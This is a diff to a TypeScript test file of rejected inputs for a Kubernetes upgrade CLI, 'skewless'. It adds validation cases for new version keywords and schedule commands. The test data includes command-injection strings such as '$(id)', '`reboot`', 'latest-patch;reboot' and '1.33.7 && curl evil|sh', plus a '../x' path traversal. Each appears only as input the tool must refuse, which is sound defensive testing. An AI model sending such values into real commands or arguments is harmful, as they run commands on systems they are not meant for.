@@ -34,11 +34,11 @@ const upgrade = (cluster: string, to: string, ...more: string[]) => ['upgrade', 
 
 /** Client-side refusals: the CLI checks these before it contacts Temporal. */
 export function cliCases({ cluster, someFile }: CaseContext): BadInput[] {
-  const to = (version: string, stderr = /^skewless: invalid target .*expected a version such as 1\.34\.2 or a minor such as 1\.34$/) =>
+  const to = (version: string, stderr = /^skewless: invalid target .*expected a version such as 1\.34\.2, a minor such as 1\.34, latest-patch or next-minor$/) =>
     ({ name: `version ${JSON.stringify(version)}`, args: upgrade(cluster, version), exit: 2 as const, stderr });
   const flag = (name: string, args: string[], stderr: RegExp) => ({ name, args, exit: 2 as const, stderr });
   return [
-    to('1.33.x'), to('1.33.07'), to('latest'), to(' 1.33.7'), to('1.33.7.1'),
+    to('1.33.x'), to('1.33.07'), to('latest'), to('next-major'), to('latest-patch;reboot'), to(' 1.33.7'), to('1.33.7.1'),
     to('1.33.7;reboot'), to('$(id)'), to('`reboot`'), to('1.33.7\nreboot'), to('1.33.7 && curl evil|sh'),
     to('', /^skewless: --to is required$/),
     flag('cluster name with path traversal', upgrade('../x', '1.32.6'), /^skewless: invalid cluster name "\.\.\/x": a DNS label$/),
@@ -80,6 +80,10 @@ export function cliCases({ cluster, someFile }: CaseContext): BadInput[] {
     flag('resolve skip without --node', ['resolve', cluster, '--action', 'skip'], /^skewless: --action skip needs --node \(without it, resolve answers a halted rollout: retry or abort\)$/),
     flag('resolve a node name with shell metacharacters', ['resolve', cluster, '--node', 'worker-1;reboot', '--action', 'retry'], /--node must be a node name .*got "worker-1;reboot"/),
     flag('approve without --gate', ['approve', cluster], /^skewless: --gate is required$/),
+    flag('schedule create with a cron of four fields', ['schedule', 'create', '--cluster', cluster, '--to', 'latest-patch', '--cron', '0 3 * *'], /^skewless: --cron takes five fields .*got "0 3 \* \*"$/),
+    flag('schedule create with a target expression that does not exist', ['schedule', 'create', '--cluster', cluster, '--to', 'latest-minor', '--every', '1h'], /^skewless: invalid target "latest-minor": expected .*latest-patch or next-minor$/),
+    flag('schedule create without a time', ['schedule', 'create', '--cluster', cluster, '--to', 'latest-patch'], /^skewless: a schedule needs --cron "EXPR", --calendar "Sat 02:00" or --every DURATION$/),
+    flag('schedule create with a calendar day that does not exist', ['schedule', 'create', '--cluster', cluster, '--to', '1.32.6', '--calendar', 'Someday 02:00'], /^skewless: --calendar takes "\[DAYS\] HH:MM"/),
     flag('approve a malformed gate', ['approve', cluster, '--gate', '$(id)'], /--gate must be a gate name such as workers-1\.33\.7, got "\$\(id\)"/),
   ];
 }
@@ -90,6 +94,7 @@ export function noUpgradeCases(): BadInput[] {
   return [
     none('status'), none('approve', '--gate', 'workers-1.32.6'), none('abort'), none('pause'), none('resume'),
     none('resolve', '--node', 'worker-1', '--action', 'retry'),
+    { name: 'schedule trigger of a cluster with no schedule', args: ['schedule', 'trigger', '--cluster', 'ghost'], exit: 2, stderr: /^skewless: no schedule upgrade-schedule\/ghost$/ },
     { name: 'watch of a cluster with no upgrade', args: ['watch', 'ghost'], exit: 2, stderr: /^skewless: no upgrade of ghost found$/ },
     { name: 'history of a cluster with no upgrade', args: ['history', 'ghost'], exit: 2, stderr: /^skewless: no upgrade of ghost found$/ },
   ];
